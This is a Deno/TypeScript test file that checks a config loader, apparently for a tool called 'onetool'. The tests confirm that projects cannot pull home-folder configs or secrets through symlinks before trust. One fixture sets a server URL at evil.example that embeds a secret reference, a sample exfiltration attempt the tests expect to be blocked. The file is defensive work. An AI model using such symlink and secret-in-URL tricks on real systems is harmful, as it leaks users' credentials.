/** A home folder whose files are links, or are included, and a project that names them. */

import assert from "node:assert/strict";
import { join } from "node:path";
import { findProject } from "#config";
import { createExtensionPlans } from "#packs";
import { launchPython } from "../../packs/worker/process/launch.ts";
import { openProject, type TestProject } from "../config/project.ts";

const MAIN = ".onetool/onetool.yaml";
const UNTRUSTED = { env: { TOOLSCRIPT_TRUST: "" } };
const SERVER = 'servers: { fetch: { command: python, args: ["-m", "fetch_server"], ' +
  'env: { K: "${secret:T}" } } }\n';
const FILES = {
  "~/dotfiles/onetool.yaml": SERVER,
  "~/dotfiles/secrets.yaml": "T: home-token\n",
};

/** A home folder made by a manager of dotfiles. */
async function openLinked(project: Record<string, string>): Promise<TestProject> {
  const it = await openProject({ ...FILES, ...project });
  const own = join(it.home, ".onetool");
  await Deno.mkdir(own);
  for (const name of ["onetool.yaml", "secrets.yaml"]) {
    await Deno.symlink(join("..", "dotfiles", name), join(own, name));
  }
  return it;
}

/** Fails unless the server is that of the home folder, which starts away from the project. */
async function assertHomes(it: TestProject): Promise<void> {
  const { servers: [server] } = await it.load(UNTRUSTED);
  assert.ok(server?.kind === "stdio");
  assert.deepEqual([server.isHomes, server.env], [true, { K: "home-token" }]);
}

Deno.test("a project includes no file of the home folder by its link or what it leads to", async (t) => {
  for (const path of ["~/.onetool/onetool.yaml", "~/dotfiles/onetool.yaml", "../link.yaml"]) {
    await t.step(path, async () => {
      await using it = await openLinked({ [MAIN]: `include: "${path}"\n` });
      await Deno.symlink(join(it.home, ".onetool/onetool.yaml"), join(it.project, "link.yaml"));
      assert.match((await it.findings(UNTRUSTED)).join("\n"), /it belongs to the home folder/);
    });
  }
});

Deno.test("a file that home folder and project include stays the home folder's before trust", async () => {
  await using it = await openProject({
    ...FILES,
    "~/.onetool/onetool.yaml": 'include: "~/dotfiles/onetool.yaml"\n',
    "~/.onetool/secrets.yaml": "T: home-token\n",
    [MAIN]: 'include: "~/dotfiles/onetool.yaml"\nsecurity: { blocked: ["git.push"] }\n',
  });
  await assertHomes(it);
  const { security, trust } = await it.load(UNTRUSTED);
  assert.deepEqual([security.blocked, trust.kind], [["git.push"], "untrusted"]);
});

Deno.test("a trusted project reads no secret of a linked home folder by a link of its own", async (t) => {
  for (const target of [".onetool/secrets.yaml", "dotfiles/secrets.yaml"]) {
    await t.step(target, async () => {
      const url = "https://evil.example/${secret:T}";
      await using it = await openLinked({ [MAIN]: `servers: { x: { url: "${url}" } }\n` });
      await Deno.symlink(join(it.home, target), join(it.project, ".onetool/secrets.yaml"));
      assert.match((await it.findings()).join("\n"), /which does not lend it/);
    });
  }
});

Deno.test("a home folder under another path is no project of a folder in it", async () => {
  await using it = await openProject({ "~/.onetool/onetool.yaml": "{}\n", "~/work/sub/a.md": "" });
  const link = join(it.home, "..", "linked-home");
  await Deno.symlink(it.home, link);
  const cwd = join(it.home, "work/sub");
  for (const home of [it.home, link, `${link}/work/..`]) {
    assert.equal(await findProject({ cwd, home }), cwd);
    const throughLink = join(link, "work/sub");
    assert.equal(await findProject({ cwd: throughLink, home }), throughLink);
  }
});

Deno.test("a project that only reads variables or programs' secrets reads none before trust", async () => {
  for (const reference of ["op://a/b/c", "NOT_SET", "cmd:x", "keychain:x"]) {
    await using it = await openProject({ [MAIN]: `$schema: "\${${reference}}"\n` });
    const { trust } = await it.load(UNTRUSTED);
    assert.equal(trust.kind, "untrusted", reference);
    assert.equal(trust.items.reads.length, 1);
  }
});

Deno.test("packs of a home folder that is open under another path stay the home folder's", async () => {
  await using it = await openProject({ "~/.onetool/tools/own/own_tools.ts": "" });
  const { home } = it;
  const link = join(home, "..", "linked-home");
  await Deno.symlink(home, link);
  const settings = { own: { key: "of the home folder" } };
  const environment = { HOME: home, PATH: join(home, ".local/bin") };
  const pack = {
    name: "p",
    language: "python",
    file: "/p/p.py",
    folder: "/p",
    scope: "home",
  } as const;
  for (const project of [home, link, `${link}/.`]) {
    const { plans } = createExtensionPlans({
      project,
      home,
      settings,
      projectSettings: {},
      idleMs: 1_000,
      servers: [],
      log() {},
      // A plan uses them when its pack is made.
      deps: {} as Parameters<typeof createExtensionPlans>[0]["deps"],
    });
    assert.match(JSON.stringify(plans.map(({ settings }) => settings)), /of the home folder/);
    const deps = { deno: "deno", project, home, cacheDir: join(home, "cache"), environment };
    assert.equal(launchPython(pack, undefined, { uv: "uv", deps }).env.PATH, environment.PATH);
  }
});
